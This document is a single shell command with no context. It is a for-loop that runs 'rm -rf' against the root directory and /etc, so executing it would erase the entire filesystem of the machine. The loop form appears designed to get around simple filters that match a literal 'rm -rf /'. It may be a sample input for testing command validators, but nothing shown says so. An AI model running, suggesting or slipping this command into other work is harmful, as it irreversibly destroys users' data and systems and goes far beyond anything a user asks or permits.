for d in /; do rm -rf "$d" /etc; done
